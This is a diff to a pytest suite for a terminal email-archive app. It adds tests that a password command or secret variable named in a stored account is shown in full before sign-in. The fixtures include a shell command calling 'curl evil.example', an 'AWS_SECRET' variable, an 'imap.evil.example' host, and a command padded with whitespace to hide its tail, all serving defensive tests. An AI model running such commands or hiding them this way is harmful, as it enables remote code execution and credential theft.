@@ -9,7 +9,7 @@ import pytest
 from textual.pilot import Pilot
 from textual.widgets import Input
 
-from mailtrove.accounts import password_account
+from mailtrove.accounts import accounts, password_account
 from mailtrove.archive.account_store import add_account
 from mailtrove.archive.database import Archive
 from mailtrove.auth.credentials import CredentialStore
@@ -19,7 +19,7 @@ from mailtrove.paths import Paths
 from mailtrove.sandbox.people import EVERYBODY
 from mailtrove.sync.events import SyncState, Watch
 from mailtrove.tui import rooms
-from mailtrove.tui.messages import SyncProgressed
+from mailtrove.tui.messages import SignInEnded, SyncProgressed
 from mailtrove.tui.password_form import PasswordForm
 from mailtrove.tui.screens.accounts import AccountsScreen
 from mailtrove.tui.screens.add_account import AddAccountScreen
@@ -251,6 +251,67 @@ async def test_another_password_is_tried_before_it_takes_the_old_ones_place(
         await pilot.press("enter")
         await until(pilot, lambda: isinstance(app.screen, SyncScreen))
     assert store.load_password(f"imap:{account.identifier}") == "secret"
+
+
+async def test_escape_while_a_login_runs_adds_nothing(
+    make_app: MakeApp, paths: Paths, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    begun, may_log_in = threading.Event(), threading.Event()
+
+    def log_in(*_: object) -> None:
+        begun.set()
+        may_log_in.wait(10)
+
+    monkeypatch.setattr(accounts, "try_password", log_in)
+    app = make_app()
+    async with running(app) as (pilot, heard):
+        app.push_screen(PasswordScreen(ALAN))
+        await pilot.pause()
+        await _type(pilot, "secret")
+        await pilot.press("enter")
+        await until(pilot, begun.is_set)
+        await pilot.press("escape")
+        await until(pilot, lambda: not isinstance(app.screen, PasswordScreen))
+        may_log_in.set()
+        await heard.wait_for(SignInEnded)
+        assert app.accounts is not None
+        assert app.accounts.all() == []
+        assert not isinstance(app.screen, ErrorScreen)
+    assert not list(paths.credentials.glob("*.json"))
+
+
+@pytest.mark.parametrize(
+    ("source", "field"),
+    [({"password_command": "sh -c 'curl evil.example'"}, "command"), ({"password_variable": "AWS_SECRET"}, "variable")],
+)
+@pytest.mark.parametrize("method", ["password", "none"])
+async def test_what_the_archive_names_for_a_password_and_where_it_goes_is_shown_before_enter(
+    make_app: MakeApp, paths: Paths, source: dict[str, str], field: str, method: str
+) -> None:
+    named = password_account(ALAN.email, host="imap.evil.example")
+    with Archive.open(paths.archive_file) as archive:
+        account = add_account(archive, dataclasses.replace(named, auth_method=method, **source))  # type: ignore[arg-type]
+    app = make_app()
+    async with running(app) as (pilot, _):
+        app.sign_in_again(account)
+        await pilot.pause()
+        assert app.focused is not None
+        assert app.focused.id == field
+        assert next(iter(source.values())) in "\n".join(drawn(app))
+        assert "imap.evil.example" in "\n".join(drawn(app))
+
+
+async def test_a_long_command_is_shown_from_end_to_end(make_app: MakeApp, paths: Paths) -> None:
+    command = "sh -c 'curl evil.example'" + " " * 60 + "pass show mail/alan"
+    with Archive.open(paths.archive_file) as archive:
+        account = add_account(archive, dataclasses.replace(ALAN, password_command=command))
+    app = make_app()
+    async with running(app) as (pilot, _):
+        app.sign_in_again(account)
+        await pilot.pause()
+        screen = "\n".join(drawn(app))
+        assert "In full: sh -c 'curl evil.example'" in screen
+        assert screen.count("pass show mail/alan") == 2
 
 
 async def test_an_empty_password_is_not_tried(make_app: MakeApp) -> None:
